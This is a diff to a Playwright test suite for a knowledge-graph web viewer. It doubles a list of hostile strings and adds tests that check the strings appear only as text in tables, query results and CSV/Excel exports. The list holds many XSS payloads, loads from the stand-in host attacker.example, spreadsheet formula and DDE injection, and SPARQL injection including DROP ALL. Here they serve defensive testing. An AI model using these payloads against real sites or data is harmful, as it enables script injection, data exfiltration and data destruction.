@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
 from collections.abc import Iterator
+from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 from graph_sample import sample_quads
@@ -11,6 +16,8 @@ from visit import Open, Visit
 
 from kg.identifiers import Identifiers
 from kg.render import render_page
+
+expect = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: make test installs it").expect
 
 RUN = "globalThis.ran=1"
 OUT = "https://attacker.example/"
@@ -76,8 +83,73 @@ HOSTILE = (
     f"<scr\u200bipt>{RUN}</scr\u200bipt>",
     "\u202egnp.exe \u2066hidden\u2069",
     f"<b>bold</b>\n<i>{RUN}</i>\tline",
+    f"<script src={OUT}a.js></script>",
+    f"<script type=module>{RUN}</script>",
+    f"<script type=importmap>{{}}</script><script>{RUN}</script>",
+    f"<script type=application/json id=page-content>{{}}</script><script>{RUN}</script>",
+    f"<ScRiPt\t>{RUN}</sCrIpT\n>",
+    f"<script/x>{RUN}</script/x>",
+    f"<<script>{RUN}//<</script>",
+    f"<script\x0b>{RUN}</script>",
+    f"<img/src=x/onerror={RUN}>",
+    f"<img src=x onerror\n=\n{RUN}>",
+    f"<img src=`x`onerror={RUN}>",
+    f"<image src=x onerror={RUN}>",
+    f"<img srcset='{OUT}a.png 1x'>",
+    f"<picture><source srcset={OUT}a.png><img src=x onerror={RUN}></picture>",
+    f"<img src=x style='background:url({OUT}a.png)'>",
+    f"<div style=\"background-image:url('{OUT}a.png')\">",
+    f"<p style=animation-name:x onanimationstart={RUN}>",
+    f"<style>@keyframes x{{}}</style><p style=animation:x onanimationend={RUN}>",
+    f"<p contenteditable autofocus onfocusin={RUN}>",
+    f"<p tabindex=0 autofocus onfocus={RUN}>",
+    f"<button popovertarget=x>go</button><div popover id=x onbeforetoggle={RUN}>",
+    f"<dialog open onclose={RUN}><form method=dialog><button>go</button></form></dialog>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=20>click</text></a></svg>",
+    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
+    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<math href=javascript:{RUN}>click</math>",
+    f"<math><mi xlink:href=data:x,{RUN}>",
+    f"<noembed><img src=x onerror={RUN}></noembed>",
+    f"<plaintext><script>{RUN}</script>",
+    f"<listing><img src=x onerror={RUN}></listing>",
+    f"<table background=javascript:{RUN}><td>",
+    f"<frameset onload={RUN}><frame src={OUT}x>",
+    f"<isindex type=image src=x onerror={RUN}>",
+    f"<input type=image src=x onerror={RUN}>",
+    f"<link rel=prefetch href={OUT}x><link rel=dns-prefetch href={OUT}>",
+    f"<link rel=preconnect href={OUT}>",
+    f"<track src={OUT}a.vtt onerror={RUN}>",
+    f"<portal src={OUT}></portal>",
+    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
+    f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"vbscript:{RUN}",
+    f"  javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f'https://x.example/" onmouseover="{RUN}',
+    f"data:text/html;base64,PHNjcmlwdD4{RUN}",
+    f"blob:{OUT}x",
+    f"'+{RUN}+'",
+    f'"}});{RUN};({{"',
+    f"}}}};{RUN};{{{{",
+    f"*/{RUN}/*",
+    f"\n{RUN}\n//",
+    f'\\"-{RUN}//',
+    f'=HYPERLINK("{OUT}","click")',
+    f"@SUM(1+1)*cmd|' /C {RUN}'!A0",
+    f"+{RUN}",
+    f"[click](javascript:{RUN})",
+    f"![x]({OUT}a.png)",
+    f"$(document.write('<img src=x onerror={RUN}>'))",
+    "VALUES ?person_id { <https://attacker.example/> } } SERVICE <https://attacker.example/> { ?s ?p ?o",
+    "> . ?s ?p ?o } ; DROP ALL #",
+    '" . } INSERT DATA { <a:b> <a:c> <a:d> } #',
     "__proto__",
     "constructor",
+    "prototype",
     "hasOwnProperty",
     "toString",
     "[object Object]",
@@ -168,7 +240,7 @@ def visit(open_page: Open, hostile_page: str) -> Iterator[Visit]:
 
 
 def test_there_are_enough_hostile_strings() -> None:
-    assert len(set(HOSTILE)) == len(HOSTILE) >= 60
+    assert len(set(HOSTILE)) == len(HOSTILE) >= 120
 
 
 def test_every_name_is_shown_as_it_is_written(visit: Visit) -> None:
@@ -202,6 +274,8 @@ def test_every_name_can_be_searched(visit: Visit) -> None:
 
 def test_the_table_shows_every_string_as_text(visit: Visit) -> None:
     visit.view("facts")
+    while visit.page.locator("#facts-more").is_visible():
+        visit.page.click("#facts-more")
     shown = visit.page.locator("#facts-table").evaluate("(table) => table.textContent")
     assert [text for text in HOSTILE if text not in shown] == []
 
@@ -232,6 +306,56 @@ def test_the_legend_the_filters_and_the_picture_hold_text_only(visit: Visit) -> 
             position={"x": (box["left"] + box["right"]) / 2, "y": (box["top"] + box["bottom"]) / 2}
         )
     visit.page.click("#theme")
+
+
+def test_the_tables_of_things_and_documents_hold_text_only(visit: Visit) -> None:
+    visit.view("facts")
+    for kind in ("things", "documents"):
+        visit.page.get_by_label("Rows").select_option(kind)
+        while visit.page.locator("#facts-more").is_visible():
+            visit.page.click("#facts-more")
+        shown = visit.page.locator("#facts-table").evaluate("(table) => table.textContent")
+        assert [text for text in HOSTILE if text not in shown] == []
+
+
+def test_open_points_hold_text_only(visit: Visit) -> None:
+    visit.view("doubts")
+    expect(visit.page.locator("#doubts-view h2")).to_be_visible()
+
+
+def test_every_name_can_be_given_to_a_question_and_comes_back_in_its_answer(visit: Visit) -> None:
+    """A name is bound as a term, so that it is asked for and nothing else."""
+    address = "() => { location.hash = 'view=questions&ask=sparql'; }"
+    visit.page.evaluate(address)
+    visit.page.fill("#own", "SELECT ?name { ?person a kg:Person ; skos:prefLabel ?name }")
+    visit.page.get_by_role("button", name="Run").click()
+    expect(visit.page.locator("#asking [role=status]")).to_have_text(f"{len(HOSTILE)} rows", timeout=30_000)
+    while visit.page.locator("#asking .more button").is_visible():
+        visit.page.locator("#asking .more button").click()
+    cells = visit.page.evaluate("() => [...document.querySelectorAll('#asking td')].map((cell) => cell.textContent)")
+    assert set(HOSTILE) <= set(cells)
+    visit.page.evaluate("() => { location.hash = 'view=questions&ask=who-is'; }")
+    for text in HOSTILE[::12]:
+        visit.page.locator("#given-person").fill(text)
+        visit.page.keyboard.press("Enter")
+        visit.page.wait_for_function(
+            "() => /\\d row|called/.test(document.querySelector('#asking [role=status]').textContent)", timeout=20_000
+        )
+
+
+def test_what_is_saved_for_a_spreadsheet_holds_no_formula(visit: Visit) -> None:
+    visit.view("facts")
+    with visit.page.expect_download() as saved:
+        visit.page.get_by_role("button", name="Save as CSV").click()
+    rows = list(csv.reader(io.StringIO(Path(saved.value.path()).read_text(encoding="utf-8-sig"), newline="")))
+    assert [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")] == []
+    with visit.page.expect_download() as saved:
+        visit.page.get_by_role("button", name="Save for Excel").click()
+    with zipfile.ZipFile(saved.value.path()) as archive:
+        for name in archive.namelist():
+            if name.endswith((".xml", ".rels")):
+                root = ElementTree.fromstring(archive.read(name))
+                assert [one.tag for one in root.iter() if one.tag.endswith(("}f", "}hyperlink"))] == []
 
 
 def test_a_script_that_gets_in_all_the_same_is_stopped_by_the_policy(open_page: Open, hostile_page: str) -> None:
